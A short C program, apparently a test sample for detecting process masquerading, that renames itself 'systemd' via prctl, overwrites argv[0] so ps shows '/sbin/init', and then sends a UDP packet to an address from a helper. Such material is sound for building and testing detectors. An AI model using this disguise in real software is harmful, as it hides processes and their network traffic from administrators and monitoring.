/*
 * Calls itself what belongs here: the task's name by prctl, and its arguments, which ps
 * shows, by writing over them.
 */
#include "trick.h"

int main(int argc, char **argv)
{
	struct sockaddr_in to = there();

	must(prctl(PR_SET_NAME, "systemd"));
	memset(argv[0], 0, strlen(argv[0]));
	strcpy(argv[0], "/sbin/init");
	acted();
	must(sendto(must(socket(AF_INET, SOCK_DGRAM, 0)), PAYLOAD, sizeof(PAYLOAD), 0, (void *)&to, sizeof(to)));
	return 0;
}
